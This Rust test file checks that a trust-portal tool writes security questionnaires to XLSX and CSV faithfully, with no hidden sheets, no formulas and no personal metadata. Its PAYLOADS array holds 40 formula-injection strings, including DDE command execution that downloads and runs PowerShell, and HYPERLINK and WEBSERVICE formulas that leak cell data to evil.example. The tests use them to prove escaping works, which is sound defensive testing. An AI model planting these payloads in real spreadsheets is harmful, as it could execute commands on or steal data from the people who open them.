//! Workbooks read back: texts, gaps, drop-downs, nothing hidden, no formula.

use std::io::{Cursor, Read as _};

use calamine::{Data, Reader as _, Xlsx};
use trust::diag::Sink;
use trust::portal::Edition;
use trust::questionnaire::Questionnaire;
use trust::questionnaire::table::{cell, columns, header, looks_like_formula};
use trust::tree::Tree;
use trust::view::Audience;

use crate::rendering::{PROJECTS, edition, render, render_into, rendered};

/// The texts of a sheet, row by row; a blank cell is an empty text.
fn texts(bytes: &[u8], sheet: &str) -> Vec<Vec<String>> {
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let range = workbook.worksheet_range(sheet).unwrap();
    let text = |value: &Data| match value {
        Data::Empty => String::new(),
        Data::String(text) => text.clone(),
        other => panic!("{other:?} is not a text"),
    };
    range.rows().map(|row| row.iter().map(text).collect()).collect()
}

/// The parts of a workbook by name.
fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let count = archive.len();
    let read = |index| {
        let mut part = archive.by_index(index).unwrap();
        let mut bytes = Vec::new();
        part.read_to_end(&mut bytes).unwrap();
        (part.name().unwrap().to_string(), String::from_utf8(bytes).unwrap())
    };
    (0..count).map(read).collect()
}

/// Each open questionnaire of an edition with the bytes of its workbook.
fn workbooks<'e>(edition: &'e Edition, tree: &'e Tree) -> Vec<(&'e Questionnaire, &'e [u8])> {
    let workbook = |(offer, questionnaire): (&trust::portal::Offer, &'e Questionnaire)| {
        let path = offer.file(questionnaire, "xlsx");
        (questionnaire, tree.get(path.trim_start_matches('/')).unwrap())
    };
    edition.open_questionnaires().map(workbook).collect()
}

fn sheet_names(bytes: &[u8]) -> Vec<String> {
    let workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    workbook.sheet_names()
}

#[test]
fn every_row_reads_back_as_it_was_answered() {
    for (project, audience) in
        PROJECTS.into_iter().flat_map(|p| [(p, Audience::Public), (p, Audience::Nda)])
    {
        let (edition, tree) = rendered(project, audience);
        let workbooks = workbooks(edition, tree);
        assert!(!workbooks.is_empty(), "{project}");
        for (questionnaire, bytes) in workbooks {
            let names = sheet_names(bytes);
            assert_eq!((names.len(), names[0].as_str()), (2, "About"));
            let rows = texts(bytes, &names[1]);
            let columns = columns(questionnaire);
            let headers: Vec<_> = columns.iter().map(|own| header(questionnaire, *own)).collect();
            assert_eq!(rows[0], headers);
            assert_eq!(rows.len(), questionnaire.form.questions.len() + 1);
            for (row, read) in questionnaire.rows.iter().zip(&rows[1..]) {
                for (column, text) in columns.iter().zip(read) {
                    let expected = cell(questionnaire, row, *column, &|path| edition.url(path));
                    assert_eq!(*text, expected, "{} {column:?}", row.question.id);
                }
            }
        }
    }
}

#[test]
fn the_caiq_lite_has_124_rows_and_blank_gaps() {
    let (edition, tree) = rendered("examples/vireo", Audience::Public);
    let rows = texts(tree.get("caiq/caiq-lite-4.0.3.xlsx").unwrap(), "CAIQ-Lite 4.0.3");
    assert_eq!(rows.len(), 125);
    let coverage = edition.offers[0].questionnaires[0].coverage();
    let gaps: Vec<_> = rows[1..].iter().filter(|row| row[3].is_empty()).collect();
    assert_eq!((coverage.questions, coverage.gaps()), (124, gaps.len()));
    assert!(gaps.len() > 50, "a young company has gaps");
    assert!(gaps.iter().all(|row| row[3..].iter().all(String::is_empty)));
    let planned = &rows[1];
    assert_eq!(planned[3..5], ["No", "CSP-owned"]);
    assert!(
        planned[5].starts_with("Planned: SOC 2 Type II report, due Q3 2027."),
        "{}",
        planned[5]
    );
}

#[test]
fn nothing_is_hidden_and_nothing_is_computed() {
    for (project, audience) in
        PROJECTS.into_iter().flat_map(|p| [(p, Audience::Public), (p, Audience::Nda)])
    {
        let (edition, tree) = rendered(project, audience);
        for (questionnaire, bytes) in workbooks(edition, tree) {
            for (name, part) in parts(bytes) {
                assert!(!part.contains("<f>") && !part.contains("<f "), "{name}");
                assert!(
                    !part.contains("state=\"hidden\"") && !part.contains("veryHidden"),
                    "{name}"
                );
                if name.starts_with("xl/worksheets/sheet") {
                    assert!(!part.contains("hidden="), "{name}");
                    assert!(
                        !part.contains(" width=\"0\"") && !part.contains(" ht=\"0\""),
                        "{name}"
                    );
                }
                assert!(
                    !name.contains("comment")
                        && !name.contains("vba")
                        && !name.contains("external")
                );
            }
            let sheet =
                parts(bytes).into_iter().find(|(name, _)| name.ends_with("sheet2.xml")).unwrap().1;
            let last = questionnaire.rows.len() + 1;
            let words = questionnaire.form.response_words().join(",");
            // A column of citations moves the response by one.
            let has_controls = questionnaire.form.columns.control.is_some();
            let at = if has_controls { 'E' } else { 'D' };
            assert!(
                sheet.contains(&format!(
                    "sqref=\"{at}2:{at}{last}\"><formula1>\"{words}\"</formula1>"
                ))
            );
            assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""));
            assert!(sheet.contains(&format!(
                "<autoFilter ref=\"A1:{}{last}\"/>",
                if questionnaire.form.ownership.is_empty() && !has_controls { 'F' } else { 'G' }
            )));
            assert!(
                sheet.contains("orientation=\"landscape\"") && sheet.contains("paperSize=\"9\"")
            );
            assert!(sheet.contains("fitToPage=\"1\"") && sheet.contains("fitToHeight=\"0\""));
            assert_eq!(sheet.matches("<c r=\"D").count(), last, "gaps have a cell too");
        }
    }
}

#[test]
fn properties_name_no_person_and_no_place() {
    let (edition, tree) = rendered(".", Audience::Public);
    for (_, bytes) in workbooks(edition, tree) {
        let all: String = parts(bytes).into_iter().map(|(_, part)| part).collect();
        assert!(all.contains("<dc:creator></dc:creator>"));
        assert!(all.contains("<cp:lastModifiedBy></cp:lastModifiedBy>"));
        assert!(all.contains("<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-11-21T00:00:00Z<"));
        assert!(all.contains("<Company>Acme Cloud</Company>"));
        assert!(all.contains("As of 2026-11-21. Commit: 0123abc."));
        assert!(!all.contains(env!("CARGO_MANIFEST_DIR")) && !all.contains("/home/"));
    }
}

#[test]
fn the_cover_says_what_it_is_and_who_may_read_it() {
    let cover = |audience| {
        let (_edition, tree) = rendered("examples/tessera", audience);
        let rows = texts(tree.get("caiq/mode-c/caiq-lite-4.0.3-mode-c.xlsx").unwrap(), "About");
        rows.into_iter().map(|row| row.join("|")).collect::<Vec<_>>().join("\n")
    };
    let public = cover(Audience::Public);
    for part in [
        "CAIQ-Lite 4.0.3",
        "Organisation|Tessera",
        "Legal name|Tessera S.r.l.",
        "Portal|https://trust.tessera.example/",
        "Publisher|Cloud Security Alliance",
        "Variant|Mode C: your own cloud account in a region of your choice",
        "As of|21 November 2026",
        "Commit|0123abc",
        "Written by|trust 0.1.0",
        " of 124 questions",
        "NA: the question does not apply",
        "Where to get it|https://cloudsecurityalliance.org/",
        "Licence|",
    ] {
        assert!(public.contains(part), "{part} is not in\n{public}");
    }
    assert!(!public.contains("NDA"));
    assert!(
        cover(Audience::Nda)
            .contains("Under NDA|This workbook holds answers that are confidential.")
    );
}

/// Texts that a spreadsheet program might run when they were not guarded.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0.0.0.0/x)'!A0",
    "@SUM(cmd|'/C calc'!A0)",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?leak=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"https://evil.example?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTDATA(\"https://evil.example\")",
    "=INDIRECT(\"A1\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "{=1+1}",
    "'=1+1",
    "\"=1+1\"",
    "a\",\"=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a\t=1+1",
    "=1+1\";=2+2",
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "https://evil.example/",
];

/// The sample with a payload in each of the first 40 explanations of the CAIQ-Lite.
fn poisoned() -> Edition {
    let mut edition = edition(".", Audience::Public);
    let rows = &mut edition.offers[0].questionnaires[0].rows;
    let entries = rows.iter_mut().filter_map(|row| row.entry.as_mut());
    for (entry, payload) in entries.zip(PAYLOADS) {
        payload.clone_into(&mut entry.explanation);
        payload.clone_into(&mut entry.ownership);
    }
    edition
}

#[test]
fn forty_formulas_stay_text_in_a_workbook() {
    let edition = poisoned();
    let tree = render(&edition);
    let (questionnaire, bytes) = workbooks(&edition, &tree)[0];
    let rows = texts(bytes, "CAIQ-Lite 4.0.3");
    let answered = questionnaire.rows.iter().zip(&rows[1..]).filter(|(row, _)| row.entry.is_some());
    for ((_, read), payload) in answered.zip(PAYLOADS) {
        assert_eq!((read[4].as_str(), read[5].as_str()), (payload, payload));
    }
    let parts = parts(bytes);
    let sheet = &parts.iter().find(|(name, _)| name.ends_with("sheet2.xml")).unwrap().1;
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "));
    assert!(
        !parts.iter().any(|(name, part)| name.ends_with(".rels") && part.contains("evil.example"))
    );
    let styles = &parts.iter().find(|(name, _)| name.ends_with("styles.xml")).unwrap().1;
    assert!(styles.contains("quotePrefix=\"1\""));
    let formats = styles.split("<cellXfs").nth(1).unwrap().split("<xf ").skip(1);
    let quoted: Vec<String> = (0..)
        .zip(formats)
        .filter(|(_, format)| format.contains("quotePrefix=\"1\""))
        .map(|(index, _)| format!("s=\"{index}\""))
        .collect();
    let cells = sheet.split("<c r=\"F").skip(1).map(|cell| cell.split('>').next().unwrap());
    let prefixed = cells.filter(|cell| quoted.iter().any(|style| cell.contains(style))).count();
    let guarded = PAYLOADS.iter().filter(|payload| looks_like_formula(payload)).count();
    assert_eq!(prefixed, guarded);
}

#[test]
fn forty_formulas_stay_text_in_csv() {
    let edition = poisoned();
    let tree = render(&edition);
    let (offer, questionnaire) = edition.open_questionnaires().next().unwrap();
    let path = offer.file(questionnaire, "csv");
    let bytes = tree.get(path.trim_start_matches('/')).unwrap();
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").expect("a byte-order mark");
    let mut reader = csv::ReaderBuilder::new().from_reader(bytes);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 124);
    let answered = questionnaire.rows.iter().zip(&rows).filter(|(row, _)| row.entry.is_some());
    for ((_, read), payload) in answered.zip(PAYLOADS) {
        let expected =
            if looks_like_formula(payload) { format!("'{payload}") } else { payload.to_owned() };
        let expected = [";", "\t", "\n"].into_iter().fold(expected, |text, separator| {
            text.replace(&format!("{separator}="), &format!("{separator}'="))
        });
        assert_eq!((&read[4], &read[5]), (expected.as_str(), expected.as_str()));
    }
    assert!(rows.iter().flatten().all(|field| !looks_like_formula(field)));
    let text = std::str::from_utf8(bytes).unwrap();
    assert!(text.ends_with("\"\r\n"));
    // Not even where semicolons separate cells, and quotes count at a cell's beginning only.
    let mut cells = text.split([';', '\t', '\n']);
    assert_eq!(cells.find(|cell| cell.starts_with(['=', '+', '-', '@'])), None);
}

#[test]
fn what_a_cell_cannot_hold_is_an_error_and_never_cut() {
    for text in ["a".repeat(32_768), "a\u{1}b".to_owned(), "a\u{ffff}".to_owned()] {
        let mut edition = edition(".", Audience::Public);
        let questionnaire = &mut edition.offers[0].questionnaires[0];
        let entry = questionnaire.rows.iter_mut().find_map(|row| row.entry.as_mut()).unwrap();
        entry.explanation = text;
        let id = entry.answer.to_string();
        let mut sink = Sink::new();
        let tree = render_into(&edition, Tree::new(), &mut sink);
        let [error] = sink.as_slice() else { panic!("{:#?}", sink.as_slice()) };
        assert_eq!(error.code, "unwritable-text");
        assert!(error.message.contains(&format!("`{id}`")), "{}", error.message);
        assert!(tree.get("caiq/mode-a/caiq-lite-4.0.3-mode-a.xlsx").is_none());
    }
    let mut edition = edition(".", Audience::Public);
    let rows = &mut edition.offers[0].questionnaires[0].rows;
    rows.iter_mut().find_map(|row| row.entry.as_mut()).unwrap().explanation = "ä".repeat(32_767);
    let tree = render(&edition);
    let rows =
        texts(tree.get("caiq/mode-a/caiq-lite-4.0.3-mode-a.xlsx").unwrap(), "CAIQ-Lite 4.0.3");
    assert_eq!(rows[1][5].chars().count(), 32_767);
}
